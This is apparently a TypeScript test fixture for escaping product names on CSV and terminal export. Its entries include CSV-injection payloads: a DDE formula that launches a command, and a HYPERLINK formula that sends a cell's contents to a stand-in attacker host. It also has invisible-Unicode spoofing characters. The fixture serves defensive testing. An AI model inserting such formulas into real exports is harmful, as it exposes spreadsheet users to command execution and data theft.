import type { Entry } from './entry.ts';

/** Expected representations of a product name. */
export interface ExportOutcome {
  /** The parsed CSV cell. */
  csv: string;
  /** The text on a terminal. */
  table: string;
}

const plain = (name: string, input: string): Entry<string, ExportOutcome> => ({
  name: `export: ${name}`,
  input,
  expected: { csv: input, table: input },
});
const formula = (name: string, input: string, csv = `'${input}`): Entry<string, ExportOutcome> => ({
  name: `export: ${name}`,
  input,
  expected: { csv, table: input },
});
const invisible = (name: string, input: string, table: string): Entry<string, ExportOutcome> => ({
  name: `export: ${name}`,
  input,
  expected: { csv: input, table },
});

/** Valid product names that reports and stock lists must escape, as CSV or on a terminal. */
export const exported: Entry<string, ExportOutcome>[] = [
  formula('a command', "=cmd|' /C calc'!A0"),
  formula('a link', '=HYPERLINK("http://evil.example?"&A1,"Total")'),
  formula('plus', '+1+1'),
  formula('minus', '-2+3'),
  formula('at sign', '@SUM(1+1)*cmd'),
  formula('full-width equals sign', '＝1+1'),
  formula('full-width plus', '＋1'),
  formula('full-width minus', '－1'),
  formula('full-width at sign', '＠SUM(A1)'),
  formula('a formula after a semicolon', 'Kettle;=1+1', "Kettle;'=1+1"),
  formula('a formula after a semicolon and a quote', 'Kettle; "=1+1', 'Kettle; "\'=1+1'),
  plain('a formula in the middle of a text', 'Kettle =1+1'),
  plain('quotes and commas', 'Kettle, 12", "blue"'),
  plain('a semicolon', 'Kettle; blue'),
  plain('a minus in the middle of a text', 'E-Reader'),
  invisible('a right-to-left override', 'Kettle \u202egnp', 'Kettle \\u{202e}gnp'),
  invisible('a zero-width space', 'Ket\u200btle', 'Ket\\u{200b}tle'),
  invisible('a line separator', 'Kettle\u2028P-1', 'Kettle\\u{2028}P-1'),
  invisible('a tag character', 'Kettle\u{e0041}', 'Kettle\\u{e0041}'),
];
